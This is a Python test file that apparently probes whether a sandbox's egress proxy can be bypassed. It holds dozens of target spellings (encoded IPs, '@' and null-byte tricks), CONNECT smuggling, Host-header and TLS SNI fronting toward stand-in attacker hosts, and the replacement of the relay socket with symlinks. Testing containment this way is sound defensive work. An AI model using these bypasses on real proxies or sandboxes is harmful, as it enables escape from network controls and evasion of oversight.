"""The way to allowed hosts: spelled so that it leads elsewhere, used for another host, or replaced.

Made in a run of its own, whose profile allows one host. The gate listens there and at a port that is not allowed, and looks
for the attempt's name in what arrives.
"""

import os
import socket
import ssl
import stat

from .base import C, Held, table

attempt = table("proxy", scene="proxy")
OUT = "outside"
NEEDS = "the proxy, which is only in a sandbox"
PROXY = ("127.0.0.1", 3128)


def dial():
    s = socket.create_connection(PROXY, 5)
    s.settimeout(2)
    return s


def answer(s):
    try:
        return s.recv(4096)
    except (TimeoutError, ConnectionError):
        return b""


def sent(me, head, body=b""):
    """Sends a head as it is; where the proxy takes it, says who it is."""
    with dial() as s:
        s.sendall(head)
        said = answer(s)
        if b" 200" not in said.split(b"\n")[0] and not said.startswith((b"\x05\x00", b"\x00\x5a")):
            raise Held(said[:60].decode(errors="replace").strip() or "no answer")
        s.sendall(body or b"GET / HTTP/1.1\r\nHost: x\r\n\r\n" + me.name.encode() + b"\n")
        if b"seen at tcp" not in answer(s):
            raise Held("the other server did not answer")


TARGETS = {
    "other-port": "{host}:{tcp}",
    "other-address": "127.0.0.1:{tcp}",
    "decimal-address": "2130706433:{tcp}",
    "hexadecimal-address": "0x7f000001:{tcp}",
    "octal-address": "0177.0.0.1:{tcp}",
    "short-address": "127.1:{tcp}",
    "other-loopback": "127.0.0.2:{tcp}",
    "no-address": "0.0.0.0:{tcp}",
    "ipv6": "[::1]:{tcp}",
    "mapped-ipv6": "[::ffff:127.0.0.1]:{tcp}",
    "scoped-ipv6": "[::1%25lo]:{tcp}",
    "trailing-dot": "{host}.:{tcp}",
    "user-information": "{host}:{allowed}@127.0.0.1:{tcp}",
    "user-information-reversed": "127.0.0.1:{tcp}@{host}:{allowed}",
    "path-after": "{host}:{tcp}/{host}:{allowed}",
    "fragment-after": "127.0.0.1:{tcp}#{host}:{allowed}",
    "query-after": "127.0.0.1:{tcp}?{host}:{allowed}",
    "backslash": "127.0.0.1:{tcp}\\@{host}:{allowed}",
    "null-byte": "127.0.0.1:{tcp}\0.{host}:{allowed}",
    "encoded": "%31%32%37.0.0.1:{tcp}",
    "port-overflow": "{host}:{over}",
    "port-zeros": "{host}:0000{tcp}",
    "port-sign": "{host}:+{tcp}",
    "port-twice": "{host}:{allowed}:{tcp}",
    "comma": "{host}:{allowed},127.0.0.1:{tcp}",
    "tab": "127.0.0.1:{tcp}\t{host}:{allowed}",
    "blank-before": " 127.0.0.1:{tcp}",
    "scheme": "http://127.0.0.1:{tcp}",
}


def spelled(label, target):
    @attempt(f"proxy-{label}", f"asks for another server: `{label}`", NEEDS, OUT)
    def _(me):
        place = target.format(host=C.host, tcp=C.tcp, allowed=C.allowed, over=65536 + C.tcp)
        sent(me, f"CONNECT {place} HTTP/1.1\r\nHost: {C.host}:{C.allowed}\r\n\r\n".encode())


for label, target in TARGETS.items():
    spelled(label, target)


def raw(label, what, make):
    @attempt(f"proxy-{label}", what, NEEDS, OUT)
    def _(me):
        sent(me, make())


raw("plain-get", "asks for a page by the form of plain proxies", lambda: f"GET http://127.0.0.1:{C.tcp}/ HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n".encode())
raw("line-break", "adds a second request after a bare line break", lambda: f"CONNECT {C.host}:{C.allowed} HTTP/1.1\nCONNECT 127.0.0.1:{C.tcp} HTTP/1.1\r\n\r\n".encode())
raw("two-lines", "names a second target as a header", lambda: f"CONNECT 127.0.0.1:{C.tcp} HTTP/1.1\r\nCONNECT {C.host}:{C.allowed} HTTP/1.1\r\n\r\n".encode())
raw("host-header", "names the allowed host only in its header", lambda: f"CONNECT 127.0.0.1:{C.tcp} HTTP/1.1\r\nHost: {C.host}:{C.allowed}\r\n\r\n".encode())
raw("http-2", "speaks HTTP/2", lambda: b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(9))
raw("socks-5", "speaks SOCKS 5", lambda: b"\x05\x01\x00")
raw("socks-4", "speaks SOCKS 4", lambda: b"\x04\x01" + C.tcp.to_bytes(2, "big") + b"\x7f\x00\x00\x01\x00")
raw("no-version", "leaves the version out", lambda: f"CONNECT 127.0.0.1:{C.tcp}\r\n\r\n".encode())


# Finding 21: what is said inside a tunnel, which a server behind a shared front obeys. The gate looks for the foreign name.


def inside(label, what, make, pieces=1):
    @attempt(f"tunnel-{label}", what, NEEDS, OUT)
    def _(me):
        foreign = f"attacker-tunnel-{label}.example"
        data = make(foreign)
        with dial() as s:
            s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            s.sendall(f"CONNECT {C.host}:{C.allowed} HTTP/1.1\r\nHost: {C.host}:{C.allowed}\r\n\r\n".encode())
            if b" 200" not in answer(s).split(b"\n")[0]:
                raise Held("the allowed host is not reached")
            step = max(1, len(data) // pieces)
            for start in range(0, len(data), step):
                s.sendall(data[start : start + step])
            if b"seen at allowed" not in answer(s):
                raise Held("the tunnel ended")


def hello(name):
    """Returns the first message of TLS, which names the server that is meant."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = context.wrap_bio(incoming, outgoing, server_hostname=name)
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def split_records(name):
    """Returns the same message cut into two records, as a server must take it too."""
    message = hello(name)[5:]
    half = 40
    return b"".join(b"\x16\x03\x01" + len(part).to_bytes(2, "big") + part for part in (message[:half], message[half:]))


def get(line="GET / HTTP/1.1", host="Host: {}", more=""):
    return lambda name: f"{line}\r\n{host}\r\n{more}\r\n".format(name).encode()


inside("host", "a page of another host", get())
inside("host-lower-case", "a page of another host, the header in lower case", get(host="host: {}"))
inside("host-without-blank", "a page of another host, no blank in the header", get(host="Host:{}"))
inside("host-with-port", "a page of another host with a port", get(host="Host: {}:443"))
inside("host-absolute", "a page of another host in the request line", lambda name: f"GET http://{name}/ HTTP/1.1\r\nHost: {C.host}:{C.allowed}\r\n\r\n".encode())
inside("host-twice", "two hosts, the allowed one first", lambda name: f"GET / HTTP/1.1\r\nHost: {C.host}:{C.allowed}\r\nHost: {name}\r\n\r\n".encode())
inside("host-later-header", "another host after many headers", lambda name: (f"GET / HTTP/1.1\r\n" + "X-Y: z\r\n" * 40 + f"Host: {name}\r\n\r\n").encode())
inside("host-in-pieces", "a page of another host, sent byte by byte", get(), 60)
inside("host-by-post", "something sent to another host", lambda name: f"POST / HTTP/1.1\r\nHost: {name}\r\nContent-Length: 1\r\n\r\nx".encode())
inside("host-line-feed", "another host, lines ended by line feeds alone", lambda name: f"GET / HTTP/1.1\nHost: {name}\n\n".encode())
inside("server-name", "another server by TLS", hello)
inside("server-name-in-pieces", "another server by TLS, sent in pieces", hello, 20)
inside("server-name-split", "another server by TLS, in two records", split_records)
inside("second-request", "another target asked for inside the tunnel", lambda name: f"CONNECT 127.0.0.1:{C.tcp} HTTP/1.1\r\nHost: {name}\r\n\r\n".encode())


@attempt("relay-is-seen", "finds a socket of the relay where it can be replaced", NEEDS)
def _(me):
    folder = os.environ["TMPDIR"]
    found = [name for name in os.listdir(folder) if stat.S_ISSOCK(os.lstat(os.path.join(folder, name)).st_mode)]
    if not found:
        raise Held("there is none")


# Finding 5 and 16: the sockets that lead out of the sandbox, replaced by something of the host's. Last, since what follows
# would go there.


def replaced(label, what, act):
    @attempt(f"relay-{label}", what, NEEDS, OUT)
    def _(me):
        act(os.path.join(os.environ["TMPDIR"], "proxy.sock"))
        with dial() as s:
            s.sendall(b"rogue " + me.name.encode() + b"\r\n\r\n")
            if not answer(s).startswith(b"HTTP/"):
                # The gate sees whether its socket was reached.
                raise Held("no answer")
        raise Held("the proxy answers as before")


def placed(path, act):
    try:
        os.unlink(path)
    except FileNotFoundError:
        pass
    act(path)


replaced("is-a-link", "a link to a service that it can see", lambda path: placed(path, lambda at: os.symlink(C.shown + "/socket", at)))
replaced("is-a-hard-link", "a hard link to such a service", lambda path: placed(path, lambda at: os.link(C.shown + "/socket", at)))
replaced("folder-is-a-link", "a folder in place of its own, linked to the service's", lambda path: folder(path))
replaced("leads-to-hidden-service", "a link to a service that only the parent can see", lambda path: placed(path, lambda at: os.symlink(C.unix, at)))


def folder(path):
    parent = os.path.dirname(path)
    os.rename(parent, parent + "-gone")
    os.symlink(C.shown, parent)
